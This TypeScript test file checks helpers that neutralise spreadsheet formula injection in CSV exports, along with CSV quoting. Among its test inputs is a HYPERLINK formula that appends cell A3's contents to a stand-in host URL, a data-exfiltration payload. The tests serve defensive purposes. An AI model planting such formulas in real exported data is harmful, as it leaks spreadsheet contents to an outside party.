import { describe, expect, it } from 'vitest';
import { csvField, csvLine, formulaSafe, startsLikeFormula } from './spreadsheet-cells.ts';

describe('startsLikeFormula and formulaSafe', () => {
  it('catches the formula starts = + - @, tab, carriage return and their full-width forms', () => {
    for (const text of [
      '=HYPERLINK("http://x.test/"&A3,"klik")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1',
      '\r=1',
      '＝1+1',
      '＠SUM(A1)',
    ]) {
      expect(startsLikeFormula(text)).toBe(true);
      expect(formulaSafe(text)).toBe(`'${text}`);
    }
  });
  it('leaves ordinary text and plain numbers alone', () => {
    for (const text of ['Puskesmas Bilah Hulu', '12.10.09.2001', '-5', '+62', '-1,5', '1=1', ' =1', '']) {
      expect(startsLikeFormula(text)).toBe(false);
      expect(formulaSafe(text)).toBe(text);
    }
  });
});

describe('csvField', () => {
  it('quotes only when needed', () => {
    expect(csvField("Desa Ma'u")).toBe("Desa Ma'u");
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(null)).toBe('');
    expect(csvField(-3)).toBe('-3');
  });
  it('neutralises a formula, then quotes what needs quoting', () => {
    expect(csvField('=HYPERLINK("http://x.test/",A3)')).toBe('"\'=HYPERLINK(""http://x.test/"",A3)"');
    expect(csvField('@SUM(1)')).toBe("'@SUM(1)");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(csvLine(['=1+1', 'Satu, Dua', 7, null])).toBe('\'=1+1,"Satu, Dua",7,');
  });
});
